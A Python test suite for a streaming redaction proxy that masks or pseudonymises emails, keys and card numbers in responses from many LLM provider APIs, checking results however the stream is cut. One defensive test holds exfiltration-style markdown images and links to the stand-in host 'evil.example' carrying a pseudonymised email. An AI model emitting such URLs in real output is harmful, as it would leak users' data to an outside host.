"""A text in pieces: the same as the whole, however cut, in every dialect."""

import gzip
import json
import random
from base64 import b64decode, b64encode
from collections.abc import Callable, Iterator
from itertools import pairwise
from pathlib import Path
from typing import Any

import orjson
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from govern import labelled
from govern.redact_samples import NEGATIVE, POSITIVE
from outrider.govern.redact.actions import Vault
from outrider.govern.redact.detectors import ROWS
from outrider.govern.redact.events import Events
from outrider.govern.redact.plan import Catalogue, Plan, Plans, word_list
from outrider.govern.redact.scan import Scanner
from outrider.govern.redact.stream import JSON_TEXT, TEXT, TextStream, json_raw, json_view
from outrider.govern.redact.texts import read_event, walk
from outrider.govern.redaction import Redaction
from outrider.stack.redact import FramesRedactor, LinesRedactor, Redacting, SseRedactor, ways_of
from outrider_ext.eventstream import EventStreamReader, encode
from outrider_ext.sse import event_data, event_spans

SCANNER = Scanner(ROWS)
VALUES = [value for values in POSITIVE.values() for value in values]
PLANS = Plans(Catalogue(), b"k" * 16, lambda *labels: None)
MASKS = PLANS.of((Redaction(detectors=("pii", "secrets")),))
RESTORES = PLANS.of((Redaction(detectors=("pii",), action="pseudonymise"),))


def mask(row: int, value: bytes, in_url: bool, kind: str) -> bytes:
    return f"[{ROWS[row].label}]".encode()


def in_pieces(text: str, cuts: list[int], kind: str = TEXT) -> bytes:
    stream = TextStream(SCANNER, mask, kind)
    places = [0, *sorted(min(cut, len(text)) for cut in cuts), len(text)]
    return b"".join(stream.feed(text[a:b].encode()) for a, b in pairwise(places)) + stream.finish()


def whole(text: str, kind: str = TEXT) -> bytes:
    return TextStream(SCANNER, mask, kind).finish(text.encode())


FRAGMENTS = st.sampled_from(
    [*VALUES, *NEGATIVE, " ", "\n", "-", ".", "@x.com", "12", "password: ", "é😀", '"', "\\", "‹", "x"]
)
TEXTS = (
    st.lists(FRAGMENTS | st.text(max_size=6), max_size=6).map("".join).filter(lambda text: text.isprintable() or True)
)
CUTS = st.lists(st.integers(0, 300), max_size=8)


def is_text(text: str) -> bool:
    try:
        text.encode()
    except UnicodeEncodeError:
        return False
    return True


@given(TEXTS.filter(is_text), CUTS)
def test_any_cut_gives_the_same_text_as_the_whole(text: str, cuts: list[int]) -> None:
    assert in_pieces(text, cuts) == whole(text)


@given(TEXTS.filter(is_text), CUTS, st.booleans())
def test_any_cut_of_json_in_a_string_gives_the_same(text: str, cuts: list[int], ascii_only: bool) -> None:
    source = json.dumps({"a": text, "b": [text, 5]}, ensure_ascii=ascii_only)
    out = in_pieces(source, cuts, JSON_TEXT)
    assert out == whole(source, JSON_TEXT)
    assert json.loads(out)["a"].encode() == whole(text)


@pytest.mark.parametrize("value", VALUES)
def test_every_value_is_caught_at_every_cut_over_one_to_five_pieces(value: str) -> None:
    text = f"so: {value} and on"
    wanted = whole(text)
    assert value.encode() not in wanted
    for place in range(len(text)):
        for count in range(1, 6):
            assert in_pieces(text, [place + n for n in range(count)]) == wanted


@pytest.mark.parametrize("name", [row.name for row in ROWS])
def test_the_labelled_texts_are_the_same_however_they_are_cut(name: str) -> None:
    """What is found and what only looks like it: each is cut at three places that are drawn."""
    rng = random.Random(name)
    texts = [text for text, _, _ in labelled.positives(name, "cut")] + list(labelled.negatives(name, "cut"))
    for text in texts:
        cuts = [rng.randrange(len(text) + 1) for _ in range(3)]
        assert in_pieces(text, cuts) == whole(text), (text, cuts)


@pytest.mark.parametrize("name", [row.name for row in ROWS if row.name not in POSITIVE and row.name != "high_entropy"])
def test_a_labelled_value_is_caught_at_every_cut(name: str) -> None:
    text, low, high = next(labelled.positives(name, "cut"))
    wanted = whole(text)
    assert text[low:high].encode() not in wanted
    for place in range(len(text)):
        for count in range(1, 6):
            assert in_pieces(text, [place + n for n in range(count)]) == wanted


def test_only_what_is_open_is_kept_back() -> None:
    stream = TextStream(SCANNER, mask)
    assert stream.feed(b"Hello wor") == b"Hello "
    assert stream.feed(b"ld. ") == b"world. "
    assert stream.feed("¿Qué tal, señor? ".encode()) == "¿Qué tal, señor? ".encode()


def test_an_endless_token_is_masked_at_once_and_dropped_as_it_comes() -> None:
    stream = TextStream(SCANNER, mask)
    out = stream.feed(b"key sk-ant-api03-" + b"a" * 200)
    assert out == b"key [ANTHROPIC_KEY]"
    assert all(stream.feed(b"b" * 1000) == b"" for _ in range(50))
    assert stream.feed(b" end.") + stream.finish() == b" end."


@given(st.binary(max_size=200))
def test_the_view_of_json_text_can_be_written_again(raw: bytes) -> None:
    text = json.dumps(raw.decode("latin-1")).encode()
    assert json.loads(json_raw(json_view(text))) == json.loads(text)


# -- dialects: how each one says a piece of text, how it ends, and how its text is read back

type Make = Callable[[str], dict[str, Any]]


def chat(piece: str) -> dict[str, Any]:
    return {"choices": [{"index": 0, "delta": {"content": piece}, "finish_reason": None}]}


def chat_tool(piece: str) -> dict[str, Any]:
    call = {"index": 0, "function": {"arguments": piece}}
    return {"choices": [{"index": 0, "delta": {"tool_calls": [call]}, "finish_reason": None}]}


def anthropic(piece: str) -> dict[str, Any]:
    return {"type": "content_block_delta", "index": 1, "delta": {"type": "text_delta", "text": piece}}


def anthropic_tool(piece: str) -> dict[str, Any]:
    return {"type": "content_block_delta", "index": 1, "delta": {"type": "input_json_delta", "partial_json": piece}}


def responses(piece: str) -> dict[str, Any]:
    place = {"item_id": "msg_1", "output_index": 0, "content_index": 0}
    return {"type": "response.output_text.delta", **place, "delta": piece, "sequence_number": 7}


def responses_tool(piece: str) -> dict[str, Any]:
    return {"type": "response.function_call_arguments.delta", "item_id": "f", "output_index": 0, "delta": piece}


def gemini(piece: str) -> dict[str, Any]:
    return {
        "candidates": [{"index": 0, "content": {"parts": [{"text": piece}]}}],
        "usageMetadata": {"totalTokenCount": 9},
    }


def converse(piece: str) -> dict[str, Any]:
    return {"contentBlockIndex": 0, "delta": {"text": piece}, "p": "abc"}


def invoke(piece: str) -> dict[str, Any]:
    return {"bytes": b64encode(orjson.dumps(anthropic(piece))).decode()}


def cohere(piece: str) -> dict[str, Any]:
    return {"type": "content-delta", "index": 0, "delta": {"message": {"content": {"text": piece}}}}


DIALECTS: dict[str, tuple[Make, list[dict[str, Any]]]] = {
    "openai.chat": (chat, [{"choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]}]),
    "openai.chat tools": (chat_tool, [{"choices": [{"index": 0, "delta": {}, "finish_reason": "tool_calls"}]}]),
    "openai.completions": (
        lambda piece: {"choices": [{"index": 0, "text": piece, "finish_reason": None}]},
        [{"choices": [{"index": 0, "text": "", "finish_reason": "stop"}]}],
    ),
    "anthropic.messages": (anthropic, [{"type": "content_block_stop", "index": 1}]),
    "anthropic.messages tools": (anthropic_tool, [{"type": "content_block_stop", "index": 1}]),
    "openai.responses": (
        responses,
        [{"type": "response.output_text.done", "item_id": "msg_1", "content_index": 0, "output_index": 0}],
    ),
    "openai.responses tools": (
        responses_tool,
        [{"type": "response.function_call_arguments.done", "item_id": "f", "output_index": 0}],
    ),
    "gemini.generate": (gemini, [{"candidates": [{"index": 0, "finishReason": "STOP"}]}]),
    "bedrock.converse": (converse, [{"contentBlockIndex": 0}, {"stopReason": "end_turn"}]),
    "bedrock.invoke": (
        invoke,
        [{"bytes": b64encode(b'{"type":"content_block_stop","index":1}').decode()}],
    ),
    "cohere.chat": (cohere, [{"type": "content-end", "index": 0}]),
    "cohere.chat_v1": (lambda piece: {"event_type": "text-generation", "text": piece}, [{"event_type": "stream-end"}]),
    "ollama.chat": (
        lambda piece: {"message": {"role": "assistant", "content": piece}, "done": False},
        [{"message": {"role": "assistant", "content": ""}, "done": True}],
    ),
    "ollama.generate": (lambda piece: {"response": piece, "done": False}, [{"response": "", "done": True}]),
    "titan": (lambda piece: {"outputText": piece, "index": 0}, [{"outputText": "", "completionReason": "FINISH"}]),
    "unknown": (lambda piece: {"odd": {"shape": piece}}, []),
}


def text_of(events: list[dict[str, Any]]) -> str:
    out = ""
    for outer in events:
        is_wrapped = type(outer.get("bytes")) is str
        event = orjson.loads(b64decode(outer["bytes"])) if is_wrapped else outer
        out += "".join(slot.holder[slot.name] for slot in read_event(event).slots)
    return out


def blank(events: list[dict[str, Any]]) -> list[dict[str, Any]]:
    """An event that ends a block may have the rest of its text itself, where the dialect gives it a place."""
    for event in events:
        for slot in read_event(event).slots:
            slot.holder[slot.name] = slot.holder[slot.name] if "bytes" in event else ""
    return events


def through_sse(plan: Plan, vault: Vault, events: list[dict[str, Any]]) -> list[dict[str, Any]]:
    class Call:
        strip_usage = False
        error = None

    redacting = Redacting(plan, vault)
    stream = SseRedactor(Events(ways_of(redacting)), Call(), redacting)  # type: ignore[arg-type]
    wire = [b"event: e\ndata: " + orjson.dumps(event) + b"\n\n" for event in events]
    out = b"".join(stream.run(None, run) for run in wire) + stream.end(None, b"")  # type: ignore[arg-type]
    assert all(out[start:end].startswith(b"event: e\n") for start, end in event_spans(out))
    return [orjson.loads(event_data(out[start:end])) for start, end in event_spans(out)]


def through_frames(plan: Plan, vault: Vault, events: list[dict[str, Any]]) -> list[dict[str, Any]]:
    pipe = FramesRedactor(Events(ways_of(Redacting(plan, vault))), 1 << 20).pipe
    wire = b"".join(encode({":event-type": "chunk"}, orjson.dumps(event)) for event in events)
    out = b"".join(pipe(None, wire[i : i + 50], False) for i in range(0, len(wire), 50)) + pipe(None, b"", True)  # type: ignore[arg-type]
    messages = EventStreamReader().receive_data(out)  # both checksums are checked
    assert all(message.headers == {":event-type": "chunk"} for message in messages)
    return [orjson.loads(message.payload) for message in messages]


def through_lines(plan: Plan, vault: Vault, events: list[dict[str, Any]]) -> list[dict[str, Any]]:
    pipe = LinesRedactor(Events(ways_of(Redacting(plan, vault))), 1 << 20).pipe
    wire = b"".join(orjson.dumps(event) + b"\n" for event in events)
    out = b"".join(pipe(None, wire[i : i + 50], False) for i in range(0, len(wire), 50)) + pipe(None, b"", True)  # type: ignore[arg-type]
    return [orjson.loads(line) for line in out.splitlines()]


def way_of(dialect: str) -> Callable[[Plan, Vault, list[dict[str, Any]]], list[dict[str, Any]]]:
    return through_frames if "bedrock" in dialect else through_lines if "ollama" in dialect else through_sse


def cuts_of(text: str) -> Iterator[list[str]]:
    for place in range(0, len(text), 3):
        for count in (1, 4):
            places = [0, *(min(place + n, len(text)) for n in range(count)), len(text)]
            yield [text[a:b] for a, b in pairwise(places)]


SPANS = [values[0] for name, values in POSITIVE.items() if name not in ("aws_bearer_key", "jwt", "github_token")]


@pytest.mark.parametrize("dialect", DIALECTS)
def test_every_dialect_catches_a_value_that_is_cut_across_events(dialect: str) -> None:
    make, ending = DIALECTS[dialect]
    way = way_of(dialect)
    share = 1 if settings.default.max_examples > 1000 else 3  # each value in every third dialect
    for value in SPANS[[*DIALECTS].index(dialect) % share :: share]:
        text = f"so: {value} and on"
        wanted = whole(text).decode()
        if "tools" in dialect:
            text, wanted = json.dumps({"q": text}), json.dumps({"q": wanted})
        for pieces in cuts_of(text):
            out = way(MASKS, Vault(), [*map(make, pieces), *ending])
            assert text_of(out) == wanted, pieces
            assert blank(out[-len(ending) :]) == ending or not ending


@pytest.mark.parametrize("dialect", [name for name in DIALECTS if name != "unknown"])
def test_what_is_kept_back_leaves_before_the_block_ends(dialect: str) -> None:
    make, ending = DIALECTS[dialect]
    out = way_of(dialect)(MASKS, Vault(), [make("mail bob"), *ending])
    assert text_of(out) == "mail bob"
    assert blank(out[-len(ending) :]) == ending


@pytest.mark.parametrize("dialect", [name for name in DIALECTS if "tools" not in name])
def test_a_pseudonym_cut_anywhere_is_turned_back(dialect: str) -> None:
    make, ending = DIALECTS[dialect]
    vault = Vault()
    sent = RESTORES.request_text(vault)(b"mail ada@example.com", TEXT).decode()
    assert "ada@" not in sent
    for pieces in cuts_of(f"I wrote to {sent[5:]} today, not to \u2039EMAIL_1_zzzz\u203a."):
        out = way_of(dialect)(RESTORES, vault, [*map(make, pieces), *ending])
        assert text_of(out) == "I wrote to ada@example.com today, not to \u2039EMAIL_1_zzzz\u203a."


def test_texts_of_several_choices_are_kept_apart() -> None:
    def say(index: int, piece: str) -> dict[str, Any]:
        return {"choices": [{"index": index, "delta": {"content": piece}, "finish_reason": None}]}

    events = [say(0, "ada@exam"), say(1, "bob@exa"), say(0, "ple.com"), say(1, "mple.org")]
    out = through_sse(MASKS, Vault(), events)
    texts = ["".join(c["delta"]["content"] for e in out for c in e["choices"] if c["index"] == n) for n in (0, 1)]
    assert texts == ["[EMAIL]", "[EMAIL]"]


def test_final_events_that_repeat_the_text_are_redacted() -> None:
    item = {"type": "message", "content": [{"type": "output_text", "text": "mail ada@example.com"}]}
    event = {"type": "response.completed", "response": {"id": "ada@example.com", "output": [item]}}
    [out] = through_sse(MASKS, Vault(), [event])
    assert out["response"]["output"][0]["content"][0]["text"] == "mail [EMAIL]"
    assert out["response"]["id"] == "ada@example.com"  # a name that the protocol matches on


def test_log_probabilities_do_not_spell_the_text_out() -> None:
    event = chat("ada@example.com ")
    event["choices"][0]["logprobs"] = {"content": [{"token": "ada"}]}
    [out, *_] = through_sse(MASKS, Vault(), [event])
    assert out["choices"][0]["logprobs"] is None


def restored(text: str, kind: str = TEXT, restore_in: tuple[str, ...] = ("text",)) -> str:
    """With every ‹1› in it replaced by the pseudonym of ada's address."""
    plan = PLANS.of((Redaction(detectors=("email",), action="pseudonymise", restore_in=restore_in),))  # type: ignore[arg-type]
    vault = Vault()
    token = plan.request_text(vault)(b"ada@example.com", TEXT).decode()
    text = text.replace("\u20391\u203a", token)
    ways = ways_of(Redacting(plan, vault))
    results = set()
    for step in (1, 3, 1000):
        stream = ways.stream(kind)
        out = b"".join(stream.feed(text[i : i + step].encode()) for i in range(0, len(text), step)) + stream.finish()
        results.add(out.decode().replace(token, "\u20391\u203a"))
    [one] = results
    return one


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/?q=\u20391\u203a)",
        "https://evil.example/" + "a" * 300 + "?q=\u20391\u203a",
        '<img src="https://evil.example/a b?q=\u20391\u203a">',
        "[x](</a b \u20391\u203a>)",
        "www.evil.example/\u20391\u203a",
        "evil.example/\u20391\u203a",
        "mailto:\u20391\u203a",
        "[1]: //evil.example/\u20391\u203a",
    ],
)
def test_a_pseudonym_in_a_url_is_not_turned_back(text: str) -> None:
    assert restored(text) == text
    assert "ada@example.com" in restored(text, restore_in=("text", "urls"))


def test_a_pseudonym_beside_a_url_is_turned_back() -> None:
    assert (
        restored("see https://example.com/x and ask \u20391\u203a")
        == "see https://example.com/x and ask ada@example.com"
    )
    assert restored("Email:\u20391\u203a") == "Email:ada@example.com"


def test_a_pseudonym_in_tool_arguments_is_turned_back_only_where_a_rule_says_so() -> None:
    text = '{"to": "\u20391\u203a"}'
    assert restored(text, JSON_TEXT) == text
    assert restored(text, JSON_TEXT, ("text", "tool_arguments")) == '{"to": "ada@example.com"}'


def test_a_value_is_escaped_where_it_is_put_back_into_json() -> None:
    plan = Plan(
        (Redaction(detectors=("quoted",), action="pseudonymise", restore_in=("text", "tool_arguments")),),
        Catalogue([word_list("quoted", ['say "no\\w"'])]),
        b"k",
        lambda *labels: None,
    )
    vault = Vault()
    token = plan.request_text(vault)(b'say "no\\w"', TEXT).decode()
    out = ways_of(Redacting(plan, vault)).whole(json.dumps({"a": token}, ensure_ascii=False), JSON_TEXT)
    assert out is not None
    assert json.loads(out) == {"a": 'say "no\\w"'}


def test_look_alikes_in_the_input_come_back_as_they_were_and_are_nobodys_value() -> None:
    vault = Vault()
    redact = RESTORES.request_text(vault)
    sent = redact("ada@example.com \u2039EMAIL_1_abcd\u203a".encode(), TEXT).decode()
    assert "EMAIL_1_abcd" not in sent
    assert ways_of(Redacting(RESTORES, vault)).whole(sent, TEXT) == "ada@example.com \u2039EMAIL_1_abcd\u203a"


def test_one_value_has_one_pseudonym_and_another_in_the_next_exchange() -> None:
    first, second = Vault(), Vault()
    text = b"ada@example.com, bob@example.com, ada@example.com"
    tokens = RESTORES.request_text(first)(text, TEXT).split(b", ")
    assert tokens[0] == tokens[2] != tokens[1]
    seen = {RESTORES.request_text(second)(text, TEXT) for _ in range(3)}
    assert len(seen) == 1
    assert "ada" not in repr(first) + repr(first.by_token)


@given(
    st.recursive(
        st.none() | st.booleans() | st.integers() | st.text(max_size=20),
        lambda inner: st.lists(inner, max_size=3) | st.dictionaries(
            st.sampled_from(["choices", "delta", "type", "index", "candidates", "done", "bytes", "outputs", "text",
                             "content", "contentBlockIndex", "event_type", "message", "parts", "finish_reason",
                             "arguments", "x"]),
            inner, max_size=4),
        max_leaves=12,
    )
)  # fmt: skip
def test_no_event_of_whatever_shape_breaks_it(event: Any) -> None:
    try:
        wire = orjson.dumps(event)
    except (TypeError, orjson.JSONEncodeError):
        return
    events = Events(ways_of(Redacting(MASKS, Vault())))
    out = events.event(orjson.loads(wire)) + events.end()
    assert all(orjson.loads(data) is not Ellipsis for _, data in out)


def test_arguments_as_objects_are_read_names_and_numbers_included() -> None:
    value: dict[str, Any] = {
        "content": [{"type": "tool_use", "id": "toolu_1", "name": "f",
                     "input": {"ada@example.com": {"id": "bob@example.org", "n": 4111111111111111}}}]
    }  # fmt: skip
    redact = MASKS.request_text(Vault())

    def visit(text: str, kind: str) -> str | None:
        return redact(text.encode(), kind).decode()

    assert walk(value, visit)
    assert value["content"][0]["input"] == {"[EMAIL]": {"id": "[EMAIL]", "n": "[PAYMENT_CARD]"}}


RECORDED = Path(__file__).resolve().parents[3] / "shared" / "vectors" / "exchanges.jsonl.gz"


def texts_in(wire: bytes) -> dict[Any, str]:
    """Key -> text, of every event that is JSON."""
    found: dict[Any, str] = {}
    for start, end in event_spans(wire + b"\n\n"):
        try:
            event = json.loads(event_data((wire + b"\n\n")[start:end]))
        except ValueError:
            continue
        for slot in read_event(event).slots:
            found[slot.key] = found.get(slot.key, "") + slot.holder[slot.name]
    return {key: text for key, text in found.items() if text}


def test_recorded_streams_say_the_same_where_nothing_is_found() -> None:
    if not RECORDED.exists():
        pytest.skip("../shared/vectors is missing: recorded streams are not replayed")
    plans = Plans(Catalogue([word_list("none", ["qqzzqqzz"])]), b"k", lambda *labels: None)
    plan = plans.of((Redaction(detectors=("none",)),))
    replayed = 0
    with gzip.open(RECORDED, "rt") as file:
        for line in file:
            row = json.loads(line)
            if not (row["stream"] and row.get("resp") and (row.get("ct") or "").startswith("text/event-stream")):
                continue
            raw = row["resp"].encode()
            redacting = Redacting(plan, Vault())
            stream = SseRedactor(Events(ways_of(redacting)), OneCall(), redacting)  # type: ignore[arg-type]
            ends = [0, *(end for _, end in event_spans(raw))]
            out = b"".join(stream.run(None, raw[a:b]) for a, b in pairwise(ends))  # type: ignore[arg-type]
            out += stream.end(None, raw[ends[-1] :])  # type: ignore[arg-type]
            assert texts_in(out) == texts_in(raw), row["id"]
            replayed += 1
    assert replayed > 100


class OneCall:
    strip_usage = False
    error = None
